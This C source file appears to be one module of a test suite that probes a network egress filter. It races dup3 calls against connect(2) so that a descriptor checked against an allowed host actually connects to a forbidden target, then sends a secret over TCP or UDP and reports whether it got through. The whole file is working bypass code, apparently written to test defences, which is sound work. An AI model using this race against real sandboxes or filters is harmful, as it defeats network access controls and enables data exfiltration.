/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The descriptor is one socket when it is checked and another when it is used:
 * a second thread dup2's the two over one number while connect(2) runs.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <unistd.h>

enum { SHARED_FD = 100 };

static atomic_int sockets[2];
static atomic_bool stop;

static void *switcher(void *unused)
{
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		dup3(atomic_load(&sockets[0]), SHARED_FD, O_CLOEXEC);
		dup3(atomic_load(&sockets[1]), SHARED_FD, O_CLOEXEC);
	}
	return unused;
}

static void renew(int type)
{
	const struct linger reset = {.l_onoff = 1};

	for (int i = 0; i < 2; i++) {
		int old = atomic_load(&sockets[i]);
		int fd = new_socket(AF_INET, type | SOCK_NONBLOCK, 0);

		setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
		atomic_store(&sockets[i], fd);
		if (old > 0)
			close(old);
	}
}

/*
 * Does this socket get to the target by a way on which no check is left? If
 * one of the two was marked for the allowed host by mistake, then so.
 */
static bool leads_to_target(const struct scene *s, int fd, int type)
{
	const struct sockaddr nobody = {.sa_family = AF_UNSPEC};
	struct pollfd pfd = {.fd = fd, .events = POLLOUT};
	struct iovec iov = {(char *)(uintptr_t)s->secret, strlen(s->secret)};
	struct msghdr msg = {.msg_name = (char *)(uintptr_t)&s->target4,
			     .msg_namelen = sizeof(s->target4),
			     .msg_iov = &iov,
			     .msg_iovlen = 1};

	connect(fd, &nobody, sizeof(nobody));
	if (type == SOCK_DGRAM) {
		pfd.events = POLLIN;
		return sendmsg(fd, &msg, 0) > 0 && poll(&pfd, 1, 5) == 1 &&
		       datagram_echoes(s, fd);
	}
	if (sendmsg(fd, &msg, MSG_FASTOPEN) < 0 && errno != EINPROGRESS)
		return false;
	return poll(&pfd, 1, 5) == 1 && same_peer(fd, &s->target4);
}

static bool won(const struct scene *s, int type)
{
	return leads_to_target(s, atomic_load(&sockets[0]), type) ||
	       leads_to_target(s, atomic_load(&sockets[1]), type);
}

static enum verdict race(const struct scene *s, int type)
{
	int64_t end = now_us() + 20 * 1000000;
	struct sockaddr_in allowed = s->allowed4;
	unsigned int i;
	pthread_t thread;
	bool through = false;

	allowed.sin_port = s->closed_port;
	renew(type);
	if (pthread_create(&thread, NULL, switcher, NULL) != 0)
		return say(UNTRIED, "no second thread");
	for (i = 0; i < s->tries && !through && now_us() < end; i++) {
		if (i % 2 == 0)
			renew(type);
		connect(SHARED_FD,
			(const void *)(i & 1 ? &s->target4 : &allowed),
			sizeof(allowed));
		through = won(s, type);
	}
	atomic_store(&stop, true);
	pthread_join(thread, NULL);
	return say(through ? THROUGH : REFUSED, "%u tries", i);
}

static enum verdict tcp(const struct scene *s)
{
	return race(s, SOCK_STREAM);
}

static enum verdict udp(const struct scene *s)
{
	return race(s, SOCK_DGRAM);
}

const struct attack attack_dup2 = {
	"dup2",
	(const struct mode[]){{"tcp", tcp}, {"udp", udp}, {0}},
};
